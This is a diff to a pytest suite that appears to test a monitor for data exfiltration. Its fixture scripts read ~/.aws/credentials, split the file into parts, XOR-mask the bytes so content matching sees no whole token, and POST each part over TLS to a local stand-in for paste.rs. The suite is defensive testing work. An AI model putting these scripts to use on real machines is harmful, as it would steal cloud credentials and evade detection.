@@ -128,8 +128,10 @@ def test_reason_names_the_real_reader(monitor, standin, fake_home):
     assert "after cat read ~/.netrc" in reason, reason
 
 
+# The parts are masked (XOR) so that no token of the file leaves whole: content matching sees
+# nothing, and the volume signals must decide.
 SEND_PART = """import socket, ssl, sys
-data = open(sys.argv[1], "rb").read()
+data = bytes(b ^ 0x5a for b in open(sys.argv[1], "rb").read())
 c = ssl._create_unverified_context()
 s = c.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[2]))), server_hostname="paste.rs")
 s.sendall(b"POST / HTTP/1.1\\r\\nHost: paste.rs\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n"
@@ -141,8 +143,8 @@ s.recv(100)
 @pytest.mark.parametrize("parts_sent, expect", [(10, "alert"), (1, "silent")])
 def test_trickle_over_child_processes_adds_up(parts_sent, expect, monitor, standin, fake_home, tmp_path):
     """`split` cuts ~/.aws/credentials into ten parts and a script posts each from its own
-    process and connection: no single post covers the file, all of them do (T1567.003). The
-    twin posts one part: not the file's worth, silent."""
+    process and connection, masked so no token leaves whole: no single post covers the file, all
+    of them do (T1567.003). The twin posts one part: not the file's worth, silent."""
     from harness.config import HTTPS_PORT
     script = tmp_path / "send_part.py"
     script.write_text(SEND_PART)
@@ -174,7 +176,7 @@ def test_trickle_over_child_processes_adds_up(parts_sent, expect, monitor, stand
 
 
 POST_THEN_DOWNLOAD = """import socket, ssl, sys
-data = open(sys.argv[1], "rb").read() if sys.argv[1] != "-" else b""
+data = bytes(b ^ 0x5a for b in open(sys.argv[1], "rb").read()) if sys.argv[1] != "-" else b""
 if len(sys.argv) > 3:
     open(sys.argv[3], "rb").read()  # read, not sent
 c = ssl._create_unverified_context()
@@ -191,8 +193,9 @@ while s.recv(65536):
 
 @pytest.mark.parametrize("post, expect", [(True, "alert"), (False, "silent")])
 def test_download_padding_does_not_cancel_an_upload(post, expect, monitor, standin, fake_home, tmp_path):
-    """A script posts ~/.aws/credentials and downloads 2 MB on the same connection: receiving a
-    lot does not offset what was sent (T1567.003). Its twin reads the file and only downloads."""
+    """A script posts ~/.aws/credentials (masked: no token whole, so the volume decides) and
+    downloads 2 MB on the same connection: receiving a lot does not offset what was sent
+    (T1567.003). Its twin reads the file and only downloads."""
     from harness.config import HTTPS_PORT
     script = tmp_path / "pad.py"
     script.write_text(POST_THEN_DOWNLOAD)
